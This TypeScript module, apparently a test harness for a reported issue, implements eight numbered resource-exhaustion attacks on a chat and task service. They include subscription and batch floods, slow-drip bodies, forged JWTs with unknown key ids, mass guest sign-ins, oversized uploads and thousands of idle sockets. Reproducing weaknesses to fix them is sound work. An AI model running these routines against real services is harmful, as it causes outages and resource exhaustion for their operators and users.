/** The attacks of rows 1 to 8 of the issue, by number. */
import { randomUUID } from "node:crypto";
import {
  begin,
  connectMessage,
  failureOf,
  openConnection,
  openSocket,
  pause,
  post,
  repeat,
  signIn,
  untilClosed,
} from "./target.ts";
import type { Acknowledged, Attack } from "./target.ts";

const LIST = { paginationOpts: { numItems: 10, cursor: null } };
const SUBSCRIPTIONS = 50_000;
const SUBSCRIPTIONS_A_MESSAGE = 1_000;

/** 1: as many subscriptions on one socket as it takes. */
export const subscriptions: Attack = (target) =>
  repeat(target, 1, async () => {
    const socket = await openSocket(target);
    socket.send(connectMessage());
    for (let version = 0; version * SUBSCRIPTIONS_A_MESSAGE < SUBSCRIPTIONS; version++) {
      const modifications = Array.from({ length: SUBSCRIPTIONS_A_MESSAGE }, (_, i) => ({
        type: "Add",
        queryId: version * SUBSCRIPTIONS_A_MESSAGE + i,
        udfPath: "tasks:list",
        args: [{ paginationOpts: { numItems: version * SUBSCRIPTIONS_A_MESSAGE + i, cursor: null } }],
      }));
      const message = {
        type: "ModifyQuerySet",
        baseVersion: version,
        newVersion: version + 1,
        modifications,
      };
      socket.send(JSON.stringify(message));
    }
    await untilClosed(socket);
  });

/** 2: batches of as many queries as are taken, by a client that does not wait for them. */
export const batches: Attack = (target) => {
  const queries = Array.from({ length: 256 }, () => ({ path: "tasks:list", args: LIST }));
  const body = JSON.stringify({ queries });
  return repeat(target, 16, async (line) => {
    if (line === 0) {
      await post(target, "/api/query_batch", JSON.stringify({ queries: Array(300_000).fill(queries[0]) }));
      return;
    }
    const sent = begin(target, "/api/query_batch");
    sent.end(body);
    await Promise.race([pause(20), failureOf(sent)]);
    sent.destroy();
  });
};

/** 3: bodies of HTTP actions that drip, and tokens of a key that nobody has. */
export const drippingBodies: Attack = async (target) => {
  const token = await signIn(target);
  const [, payload = "", signature = ""] = token.split(".");
  const drips = repeat(target, 300, async () => {
    const sent = begin(target, "/chat-stream", { authorization: `Bearer ${token}` });
    void failureOf(sent).catch(() => {});
    while (!sent.destroyed && !target.signal.aborted) {
      sent.write('{"content":"');
      await pause(1000);
    }
  });
  const unknownKeys = repeat(target, 2, async () => {
    const head = { alg: "RS256", typ: "JWT", kid: randomUUID() };
    const forged = `${Buffer.from(JSON.stringify(head)).toString("base64url")}.${payload}.${signature}`;
    await post(target, "/api/query", '{"path":"tasks:list","args":{}}', {
      authorization: `Bearer ${forged}`,
    });
  });
  await Promise.all([drips, unknownKeys]);
};

/** 4: one guest's answers, each as long as the model goes on. */
export const longAnswers: Attack = async (target) => {
  const authorization = `Bearer ${await signIn(target)}`;
  await repeat(target, 64, async () => {
    const body = JSON.stringify({ clientMessageId: randomUUID(), content: "Please write." });
    const answer = await post(target, "/chat-stream", body, { authorization });
    // Refused, most likely for its rate.
    if (answer.startsWith("{")) await pause(100);
  });
};

/** 5: guests without number, each with sends. */
export const guests: Attack = (target) =>
  repeat(target, 8, async () => {
    const token = await signIn(target);
    const sends = Array.from({ length: 4 }, async () => {
      const args = { taskId: null, clientMessageId: randomUUID(), content: "Please write." };
      const call = JSON.stringify({ path: "messages:send", args });
      const answer = await post(target, "/api/mutation", call, { authorization: `Bearer ${token}` });
      const { value } = JSON.parse(answer) as { value?: Omit<Acknowledged, "token"> };
      if (value !== undefined) target.acknowledge({ ...value, token });
    });
    await Promise.all(sends);
  });

/** 6: calls of long names over sockets, and uploads of the largest size. */
export const disk: Attack = async (target) => {
  const name = "x".repeat(60_000);
  const records = repeat(target, 4, async () => {
    const socket = await openSocket(target);
    socket.send(connectMessage());
    for (let requestId = 0; socket.readyState === socket.OPEN; requestId++) {
      const call = { path: requestId % 2 === 0 ? name : "tasks:rename", args: { taskId: name } };
      socket.send(JSON.stringify({ type: "Mutation", requestId, udfPath: call.path, args: [call.args] }));
      if (requestId % 50 === 49) await pause(50);
    }
  });
  const authorization = `Bearer ${await signIn(target)}`;
  const file = Buffer.alloc(20 * 1024 * 1024);
  const uploads = repeat(target, 2, async () => {
    const args = { filename: "scan.pdf", mediaType: "application/pdf", size: file.length };
    const call = JSON.stringify({ path: "attachments:generateUploadUrl", args });
    const answer = await post(target, "/api/mutation", call, { authorization });
    const { value } = JSON.parse(answer) as { value?: { url: string; contentType: string } };
    if (value === undefined) throw new Error("No more uploads now");
    const { pathname, search } = new URL(value.url);
    await post(target, pathname + search, file, { "content-type": value.contentType });
  });
  await Promise.all([records, uploads]);
};

/** 7: memory, by bodies that never end, large frames in parallel, and sockets that do not read. */
export const memory: Attack = async (target) => {
  const megabyte = "x".repeat(1024 * 1024);
  const bodies = repeat(target, 150, async () => {
    const sent = begin(target, "/api/mutation");
    sent.write('{"path":"');
    for (let i = 0; i < 19 && !sent.destroyed; i++) {
      await Promise.race([new Promise((resolve) => sent.write(megabyte, resolve)), failureOf(sent)]);
    }
    await Promise.race([pause(5_000), failureOf(sent)]);
  });
  const frame = JSON.stringify({
    ...{ type: "Mutation", requestId: 0, udfPath: "tasks:rename" },
    args: [{ title: megabyte.repeat(15) }],
  });
  const frames = repeat(target, 40, async () => {
    const socket = await openSocket(target, { perMessageDeflate: false });
    socket.send(connectMessage());
    socket.send(frame);
    await Promise.race([untilClosed(socket), pause(2_000)]);
    socket.terminate();
  });
  const deaf = repeat(target, 30, async () => {
    const socket = await openSocket(target, { perMessageDeflate: false });
    socket.send(connectMessage());
    socket.pause();
    for (let requestId = 0; requestId < 400 && socket.readyState === socket.OPEN; requestId++) {
      const args = [{ text: "x".repeat(30_000) }];
      socket.send(JSON.stringify({ type: "Mutation", requestId, udfPath: "tasks:rename", args }));
    }
    await Promise.race([untilClosed(socket), pause(5_000)]);
    socket.terminate();
  });
  await Promise.all([bodies, frames, deaf]);
};

/** 8: idle sockets and idle connections, as many as are taken. */
export const idle: Attack = async (target) => {
  await Promise.all([
    repeat(target, 2_200, async () => {
      const socket = await openSocket(target);
      await untilClosed(socket);
    }),
    repeat(target, 4_500, async () => {
      const socket = await openConnection(target);
      await untilClosed(socket);
    }),
  ]);
};
